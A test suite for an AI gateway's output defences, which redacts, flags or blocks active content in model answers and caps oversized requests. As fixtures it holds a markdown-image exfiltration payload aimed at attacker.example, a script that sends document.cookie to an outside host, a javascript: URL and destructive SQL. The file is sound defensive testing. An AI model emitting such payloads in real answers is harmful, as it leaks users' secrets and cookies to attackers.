import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultConfigInput } from '../src/config/defaults.js';
import type { FakeUpstream } from './fakes/index.js';
import { obj, standardConfig } from './helpers/fixtures.js';
import { setupGateway } from './helpers/gateway.js';
import { eventually, type StartedKeel, startKeel } from './helpers/keel.js';

// The gateway-side defences the red-team suite attacks, through the real request path: active
// content in answers (improper output handling) under the default policy and per use case, and
// unbounded consumption against the built-in default config and its simulator.

const ADMIN = 'output-defences-admin-token-5511';
const EXFIL = '![status](https://collect.attacker.example/p.png?d=c2VjcmV0OiBodW50ZXIy)';

let oai: FakeUpstream;
let keel: StartedKeel;

setupGateway(
  (up) =>
    standardConfig(up, {
      admin: { token: ADMIN },
      auth: { required: false },
      guards: {
        policies: {
          partner: { active_content: { allowed_hosts: ['attacker.example'] } },
          strict: { active_content: { output: 'block', sql: 'block' } },
        },
        use_cases: { 'partner-portal': 'partner', payments: 'strict' },
      },
    }),
  (g) => {
    ({ oai, keel } = g);
  },
);

async function chat(opts: { stream?: boolean; useCase?: string; key?: string } = {}) {
  return fetch(`${keel.url}/v1/chat/completions`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      ...(opts.useCase ? { 'x-keel-use-case': opts.useCase } : {}),
      ...(opts.key ? { authorization: `Bearer ${opts.key}` } : {}),
    },
    body: JSON.stringify({
      model: 'gpt-4o',
      messages: [{ role: 'user', content: 'Summarise the ticket.' }],
      ...(opts.stream ? { stream: true } : {}),
    }),
  });
}

async function answer(opts: Parameters<typeof chat>[0] = {}) {
  const res = await chat(opts);
  const body = obj(await res.json());
  const choice = obj((body.choices as unknown[] | undefined)?.[0] ?? {});
  return {
    status: res.status,
    code: body.error ? obj(body.error).code : undefined,
    content: choice.message ? String(obj(choice.message).content ?? '') : '',
    requestId: res.headers.get('x-keel-request-id'),
  };
}

/** The text of a streamed answer, from its SSE frames. */
async function streamed(opts: Parameters<typeof chat>[0] = {}): Promise<string> {
  const res = await chat({ ...opts, stream: true });
  expect(res.status).toBe(200);
  let text = '';
  for (const line of (await res.text()).split('\n')) {
    if (!line.startsWith('data: {')) continue;
    const delta = obj(obj((obj(JSON.parse(line.slice(6))).choices as unknown[])[0] ?? {}).delta ?? {});
    if (typeof delta.content === 'string') text += delta.content;
  }
  return text;
}

function eventsOf(requestId: string | null): Promise<Array<Record<string, unknown>>> {
  return eventually(async () => {
    const res = await fetch(`${keel.url}/api/security-events?limit=200`, {
      headers: { authorization: `Bearer ${ADMIN}` },
    });
    const mine = ((obj(await res.json()).data as Array<Record<string, unknown>>) ?? []).filter(
      (e) => e.request_id === requestId,
    );
    if (mine.length === 0) throw new Error('not written yet');
    return mine;
  }, 5000);
}

describe('active content in answers, default policy', () => {
  it('redacts a markdown image that sends data to an outside host, and records it', async () => {
    oai.enqueue({ text: `Here is the summary. ${EXFIL} Anything else?` });
    const r = await answer();
    expect(r.status).toBe(200);
    expect(r.content).toBe('Here is the summary. [REDACTED:active.markdown_image] Anything else?');
    expect(await eventsOf(r.requestId)).toContainEqual(
      expect.objectContaining({ detector: 'active_content', direction: 'output', action: 'redact' }),
    );
    const metrics = await (await fetch(`${keel.url}/metrics`)).text();
    expect(metrics).toMatch(/keel_guard_decisions_total\{[^}]*detector="active_content"[^}]*\} [1-9]/);
  });

  it('redacts script and script URLs in a stream split into small pieces', async () => {
    oai.enqueue({
      text: 'Done. <script>fetch("https://x.example/?c="+document.cookie)</script> [more](javascript:alert(1)) Bye.',
      chunkDelayMs: 0,
    });
    expect(await streamed()).toBe('Done. [REDACTED:active.script] [REDACTED:active.script_url] Bye.');
  });

  it('flags SQL and leaves code shown as code alone', async () => {
    const text =
      'Run this:\n\n```sql\nDELETE FROM sessions WHERE expires < now();\n```\n\nor DROP TABLE sessions; to start over.';
    oai.enqueue({ text });
    const r = await answer();
    expect(r.content).toBe(text);
    const events = await eventsOf(r.requestId);
    expect(events).toEqual([
      expect.objectContaining({
        detector: 'active_content',
        action: 'flag',
        labels: ['active.code.sql_write', 'active.sql_write'],
      }),
    ]);
  });
});

describe('active content per use case', () => {
  it('a key given a use case whose policy allows the host gets the image; a header alone does not', async () => {
    const { secret } = await keel.app.services.keys.create(
      { name: 'partner-app', models: ['*'], useCases: ['partner-portal'] },
      'test',
    );
    oai.enqueue({ text: EXFIL });
    expect((await answer({ key: secret })).content).toBe(EXFIL);
    oai.enqueue({ text: EXFIL });
    expect((await answer({ useCase: 'partner-portal' })).content).toBe('[REDACTED:active.markdown_image]');
  });

  it('a stricter use case blocks the answer, whole or streamed', async () => {
    oai.enqueue({ text: `x ${EXFIL}` });
    expect(await answer({ useCase: 'payments' })).toMatchObject({ status: 502, code: 'output_blocked' });
    oai.enqueue({ text: 'UPDATE accounts SET balance = 0 WHERE id = 7;' });
    expect(await answer({ useCase: 'payments' })).toMatchObject({ status: 502, code: 'output_blocked' });
  });
});

describe('unbounded consumption under the built-in default config', () => {
  let sim: StartedKeel;
  beforeAll(async () => {
    const config = defaultConfigInput();
    for (const p of config.providers ?? [])
      if (p.simulator) p.simulator = { ...p.simulator, latency_ms: 1, tokens_per_second: 0 };
    sim = await startKeel(config as Record<string, unknown>);
  });
  afterAll(async () => {
    await sim?.close();
  });

  const post = (body: unknown) =>
    fetch(`${sim.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: typeof body === 'string' ? body : JSON.stringify(body),
    });

  it('caps max_tokens: 1000000 to the model’s real output limit and says so', async () => {
    for (const [model, cap] of [
      ['chat-fast', 16_384],
      ['claude-sonnet', 64_000],
    ] as const) {
      const res = await post({ model, max_tokens: 1_000_000, messages: [{ role: 'user', content: 'Hi' }] });
      expect(res.status).toBe(200);
      expect(res.headers.get('x-keel-max-tokens-capped')).toBe(`${cap}; requested=1000000; by=model`);
      await res.arrayBuffer();
    }
  });

  it('refuses a body over the size limit before reading it all', async () => {
    const huge = JSON.stringify({
      model: 'chat-fast',
      messages: [{ role: 'user', content: 'a '.repeat(2_200_000) }],
    });
    const res = await post(huge);
    expect(res.status).toBe(413);
    expect(obj(obj(await res.json()).error).code).toBe('body_too_large');
  });
});
